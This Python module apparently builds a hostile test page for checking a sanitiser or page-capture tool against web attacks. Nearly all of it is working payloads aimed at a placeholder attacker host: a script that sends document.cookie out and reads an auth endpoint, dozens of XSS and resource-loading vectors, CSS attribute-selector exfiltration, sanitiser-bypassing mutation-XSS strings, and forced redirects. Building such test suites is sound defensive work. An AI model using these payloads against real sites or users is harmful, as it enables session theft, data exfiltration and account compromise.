"""A captured page that attacks whoever opens it: each vector tells the attacker's server that it worked."""

SCRIPT = """
const tell = (what) => { new Image().src = "ATTACKER/" + what; };
tell("script?" + encodeURIComponent(document.cookie));
try { if (parent !== window) { parent.document.title = "owned"; tell("parent"); } } catch (e) {}
try { localStorage.setItem("desk", "owned"); tell("storage"); } catch (e) {}
try { document.cookie = "owned=1; path=/"; tell("cookie"); } catch (e) {}
try { window.open("ATTACKER/popup"); } catch (e) {}
try { fetch(location.origin + "/api/v1/auth/me/").then((answer) => answer.text()).then((text) => tell("api?" + text.length)); } catch (e) {}
addEventListener("DOMContentLoaded", () => {
  try { document.getElementById("js").click(); } catch (e) {}
  try { document.getElementById("send").submit(); } catch (e) {}
  setTimeout(() => { try { top.location = "ATTACKER/top"; } catch (e) {} }, 1000);
});
"""

# Vector, and the markup that tells of itself when it works in a browser without any protection.
LOADS = {
    "img": '<img src="ATTACKER/img">',
    "srcset": '<img srcset="ATTACKER/srcset 1x">',
    "picture": '<picture><source srcset="ATTACKER/picture"><img alt=""></picture>',
    "poster": '<video poster="ATTACKER/poster"></video>',
    "audio": '<audio src="ATTACKER/audio" preload="auto"></audio>',
    "iframe": '<iframe src="ATTACKER/iframe"></iframe>',
    "object": '<object data="ATTACKER/object"></object>',
    "embed": '<embed src="ATTACKER/embed">',
    "stylesheet": '<link rel="stylesheet" href="ATTACKER/stylesheet">',
    "icon": '<link rel="preload" as="image" href="ATTACKER/icon">',
    "import": '<style>@import url("ATTACKER/import");</style>',
    "background": "<style>h1 { background: url(ATTACKER/background) }</style>",
    "exfiltration": "<style>input[value^='s'] { background: url(ATTACKER/exfiltration) }</style>"
    '<input name="secret" value="secret">',
    "style": '<p style="background: url(ATTACKER/style)">styled</p>',
    "attribute": '<table background="ATTACKER/attribute"><tr><td>cell</td></tr></table>',
    "image-button": '<input type="image" src="ATTACKER/image-button">',
    "svg-image": '<svg><image href="ATTACKER/svg-image" /></svg>',
    "font": "<style>@font-face { font-family: f; src: url(ATTACKER/font) } b { font-family: f }</style><b>f</b>",
}
RUNS = {
    "onerror": '<img src="data:," onerror="new Image().src=\'ATTACKER/onerror\'">',
    "svg-onload": "<svg onload=\"new Image().src='ATTACKER/svg-onload'\"></svg>",
    "ontoggle": "<details open ontoggle=\"new Image().src='ATTACKER/ontoggle'\"><summary>x</summary></details>",
    "onfocus": "<input autofocus onfocus=\"new Image().src='ATTACKER/onfocus'\">",
    "srcdoc": "<iframe srcdoc=\"<script>new Image().src='ATTACKER/srcdoc'</script>\"></iframe>",
    "javascript-frame": "<iframe src=\"javascript:void(new Image().src='ATTACKER/javascript-frame')\"></iframe>",
    "svg-script": "<svg><script>new Image().src='ATTACKER/svg-script'</script></svg>",
    "javascript-link": '<a id="js" href="javascript:void(new Image().src=\'ATTACKER/javascript-link\')">Click</a>',
    "noscript": "<noscript><p title=\"</noscript><img src=x onerror=fetch('ATTACKER/noscript')>\">"
    "</noscript>",
    "svg-style": "<svg></p><style><a id=\"</style><img src=1 onerror=fetch('ATTACKER/svg-style')>\">",
    "comment": "<!--><img src=1 onerror=fetch('ATTACKER/comment')>-->",
}
# Harmless as they stand; some sanitisers have made them into a script that runs.
MUTATES = (
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 '
    "onerror=fetch('ATTACKER/math')&gt;\">",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style>"
    "<img onerror=fetch(`ATTACKER/form-math`) src>'>",
    '<svg><desc><noscript><style></noscript><a title="</style><img src onerror=fetch(`ATTACKER/desc`)>">',
    '<textarea><img title="</textarea><img src onerror=fetch(`ATTACKER/textarea`)>">',
)
# Sends the reader away at once, so each of these is tried on a page of its own.
LEAVES = {
    # Longer than what the fetcher would follow by itself.
    "refresh": "<!--" + "x" * 40_000 + '--><meta http-equiv="refresh" content="0;url=ATTACKER/refresh">',
    "submit": '<form action="ATTACKER/submit"><input name=q value=1></form>'
    "<script>document.forms[0].submit()</script>",
    "top": '<script>top.location = "ATTACKER/top"</script>',
}
STORY = (
    "<h1>The bridge</h1><p>The repair of the bridge cost 4.2 million euros, says the council's account.</p>"
    "<table><tr><th>Year</th><th>Cost</th></tr><tr><td>2024</td><td>4.2</td></tr></table>"
    '<p><a href="ATTACKER/link" ping="ATTACKER/ping">The account</a> <a href="/api/v1/auth/me/">Me</a></p>'
)


def page(attacker: str, *vectors: str) -> str:
    """A page with these vectors, before and after its story."""
    inside = STORY + "".join(vectors)
    markup = f'<!doctype html><html><head><base href="ATTACKER/based/"><title>The bridge</title></head><body>{inside}</body></html>'
    return markup.replace("ATTACKER", attacker)


def everything(attacker: str) -> str:
    script = f"<script>{SCRIPT}</script>"
    form = '<form id="send" action="ATTACKER/form" target="sink"><input name="q"></form><iframe name="sink"></iframe>'
    # What swallows the rest of the page comes last.
    return page(attacker, script, form, *LOADS.values(), *RUNS.values(), *MUTATES)
